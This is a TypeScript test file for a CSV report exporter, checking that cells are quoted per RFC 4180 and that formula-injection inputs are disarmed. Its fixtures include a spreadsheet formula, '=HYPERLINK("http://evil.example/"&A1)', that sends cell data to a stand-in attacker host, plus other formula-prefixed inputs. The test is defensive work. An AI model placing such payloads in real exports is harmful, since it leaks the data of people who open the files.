import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cell, reportTable } from '../../../main/report/csv.ts'
import { crossingOf, digestOf } from './record.ts'

/** Reads RFC 4180 as a spreadsheet does. */
function read(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  for (const [, quoted = '', end = ''] of text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/gy)) {
    row.push(quoted.replace(/""/g, '"'))
    if (end === ',') continue
    rows.push(row)
    row = []
  }
  return rows
}

describe('a cell', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['+1', `"'+1"`],
    ['-1', `"'-1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'⟦U+0009⟧=1"`],
    ['\r=1', `"'⟦U+000D⟧=1"`],
    ['\n=1', `"'⟦U+000A⟧=1"`],
    ['  =1', `"'  =1"`],
    ['＝1', `"'＝1"`],
    ['a=1', `"a=1"`],
    ['a "b", c', `"a ""b"", c"`],
    ['", =1', `""", =1"`],
    ['a\u202eb', `"a⟦U+202E⟧b"`],
    [7, '"7"'],
    [null, '""'],
    [undefined, '""'],
  ])('%j is %s', (value, shown) => expect(cell(value)).toBe(shown))

  it('never begins as a formula, whatever it says', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const [[found = ''] = []] = read(`${cell(text)}\r\n`)
        expect(found).not.toMatch(/^\s*[=+\-@\t\r]/)
        expect(cell(text)).toMatch(/^"[^\r\n]*"$/)
      }),
    )
  })
})

describe('the report as a table', () => {
  const record = crossingOf()

  it('has a head, and the record’s digest and transfer in each row', () => {
    const [head = [], ...rows] = read(reportTable(record, digestOf('f')))
    expect(head.slice(0, 3)).toEqual(['row', 'record', 'transfer'])
    for (const row of rows) {
      expect(row).toHaveLength(head.length)
      expect(row.slice(1, 3)).toEqual([digestOf('f'), record.consignment.id])
    }
    expect(rows.map((row) => row[0])).toEqual([
      ...['crossing', 'item', 'evidence', 'check', 'person', 'person', 'person', 'export'],
    ])
  })

  it('ends each row with CR and LF, and has no other', () => {
    const text = reportTable(record, digestOf('f'))
    expect(text.endsWith('"\r\n')).toBe(true)
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/)
  })

  it('disarms hostile names wherever they come from', () => {
    const [item, check, half] = [record.items[0]!, record.verdict!.checks[0]!, record.decision.halves[0]!]
    const bad = '=HYPERLINK("http://evil.example/"&A1)'
    const hostile = crossingOf({
      items: [
        {
          ...item,
          name: '@name',
          reference: '-reference',
          findings: [{ code: 'x', subject: bad, detail: bad }],
        },
      ],
      verdict: {
        ...record.verdict!,
        checks: [{ ...check, expected: bad, found: `+${bad}`, subject: `\t${bad}` }],
      },
      decision: { outcome: 'hold', halves: [{ ...half, name: bad, reason: `\r${bad}` }] },
    })
    const rows = read(reportTable(hostile, digestOf('f')))
    expect(rows.length).toBe(read(reportTable(record, digestOf('f'))).length - 1)
    for (const found of rows.flat()) expect(found).not.toMatch(/^\s*[=+\-@\t\r]/)
    expect(rows.flat()).toContain(`'${bad}`)
  })
})
